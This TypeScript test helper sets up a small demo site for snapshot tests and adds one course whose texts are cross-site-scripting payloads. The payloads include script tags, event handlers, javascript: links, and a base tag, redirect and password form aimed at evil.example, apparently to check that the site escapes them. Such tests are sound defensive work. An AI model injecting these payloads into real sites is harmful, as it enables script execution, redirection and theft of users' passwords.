import { before } from 'mocha';

import { readBuiltFiles } from '../../../tools/preview/built-files.js';
import type { Preview } from '../../../tools/preview/preview-server.js';
import { type BrowserRig, browserRig } from './rig.js';
import { type MadeSnapshots, makeSnapshots, startOverSnapshots } from './snapshots.js';

/** A title that acts where a text is taken for markup, and that ends every kind of element of a head. */
export const HOSTILE_TITLE = `</title></script></noscript></style>"'><img src=x onerror=alert(1)><script>alert(2)</script><!--`;
const HOSTILE_INTRODUCTION = `<p onclick="alert(3)">毒 <a href="java\tscript:alert(4)">x</a></p><script>alert(5)</script>
<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/"><style>body{display:none}</style>
<form action="//evil.example/"><input name=password><button formaction="javascript:alert(6)">y</button></form>
<iframe srcdoc="<script>alert(7)</script>"></iframe><svg onload="alert(8)"></svg></div></div><!--`;
export const HOSTILE_COURSE = 99;

/** Leaves few courses, so that snapshots are made in seconds, and adds one with hostile texts. */
function makeSmall({ site }: Preview): void {
  const { catalogue } = site.engine.controls.pages;
  const courses = catalogue.courses.slice(0, 4);
  const [first] = courses;
  if (!first) throw new Error('The demo site has no course');
  const texts = { title: HOSTILE_TITLE, shortDescription: HOSTILE_TITLE, introduction: HOSTILE_INTRODUCTION };
  const lessons = first.lessons.map((lesson) => ({ ...lesson, title: HOSTILE_TITLE }));
  const hostile = { ...first, ...texts, lessons, id: HOSTILE_COURSE, isShown: true, isPublished: true };
  catalogue.change({ courses: [...courses, hostile], categories: catalogue.categories.slice(0, 1) });
  site.engine.controls.pages.announcements.publish([]);
}

/** Serves each test of the suite with the snapshots of a small site, and returns them with the rig. */
export function overSmallSite(): { readonly rig: BrowserRig; readonly snapshotOf: (address: string) => string } {
  let made: MadeSnapshots = new Map();
  before(async () => {
    made = await makeSnapshots(await readBuiltFiles('dist'), undefined, makeSmall);
  });
  const rig = browserRig({
    start: async () => {
      const preview = await startOverSnapshots(made, { files: await readBuiltFiles('dist') });
      makeSmall(preview);
      return preview;
    },
  });
  const snapshotOf = (address: string): string => {
    const found = [...made].find(([name]) => name.endsWith(`/pages${address}.html`));
    if (!found) throw new Error(`${address} has no snapshot`);
    return found[1];
  };
  return { rig, snapshotOf };
}

/** Runs in the page: whether the site has replaced the snapshot. */
export function isTakenOver(): boolean {
  return (
    document.querySelector('#snapshot') === null && document.querySelector('.frame:not(.frame--early) .header') !== null
  );
}
